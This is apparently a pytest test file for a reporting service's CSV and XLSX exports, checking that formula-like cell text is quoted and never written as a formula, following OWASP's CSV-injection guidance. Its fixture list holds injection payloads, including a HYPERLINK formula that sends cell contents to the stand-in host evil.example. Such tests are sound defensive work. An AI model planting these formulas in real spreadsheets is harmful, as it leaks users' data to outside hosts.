"""Exports never hand a spreadsheet a formula: OWASP's CSV-injection rule in CSV, strings only in XLSX."""
from __future__ import annotations

import csv
import io

import pytest

from services.reporting.entrypoints import exports
from tests.support.xlsx import column, sheet_cells

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"klik")', "+1+2", "-2+3", "@SUM(A1:A9)", "\tTab=1+1", "\rCR=1+1"]
DEFINITION = {"criteria": [{"key": "signifikansi", "weight": 30}]}


def row(rank: int, title: str) -> dict:
    return {"rank": rank, "entry_id": f"e{rank}", "title": title, "agency": {"name": "=1+1 Dinas"}, "cluster": "kota",
            "province_code": "73", "province": "Sulawesi Selatan", "category": "kesehatan", "score": -1.5,
            "raw_score": 80.25, "reviews": {"done": 2, "assigned": 2}, "status": "submitted",
            "submitted_at": "2026-03-01T02:00:00Z", "criterion_means": {"signifikansi": 80.0}}


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_starts_like_a_formula_gets_a_quote(text):
    assert exports.neutralised(text) == "'" + text


@pytest.mark.parametrize("value", ["Puskesmas Keliling", "", "Inovasi = layanan", "'dikutip", 7, -3, -1.5, 0.0, None])
def test_other_text_and_every_number_stay_as_they_are(value):
    assert exports.neutralised(value) == value


def test_csv_cells_are_neutralised_and_numbers_stay_numbers():
    body = b"".join(exports.csv_stream(DEFINITION, [row(i, t) for i, t in enumerate(HOSTILE, 1)]))
    table = list(csv.reader(io.StringIO(body.decode("utf-8-sig"), newline="")))
    assert [r[2] for r in table[1:]] == ["'" + t for t in HOSTILE]
    assert {r[3] for r in table[1:]} == {"'=1+1 Dinas"}
    assert [r[0] for r in table[1:]] == [str(i) for i in range(1, len(HOSTILE) + 1)]
    assert {r[8] for r in table[1:]} == {"-1.5"}  # a negative number is a number, not formula text


def test_xlsx_writes_every_text_cell_as_a_string_and_no_formula():
    body = b"".join(exports.xlsx_stream(DEFINITION, [row(i, t) for i, t in enumerate(HOSTILE, 1)], "Peringkat"))
    cells = sheet_cells(body)
    assert not any(c.formula for c in cells)
    titles = column(cells, "C")[1:]
    assert [c.text for c in titles] == HOSTILE and {c.kind for c in titles} <= {"inlineStr", "s"}
    assert {c.kind for c in column(cells, "A")[1:]} == {"n"} and {c.text for c in column(cells, "I")[1:]} == {"-1.5"}
    assert column(cells, "B")[1].kind in {"inlineStr", "s"}
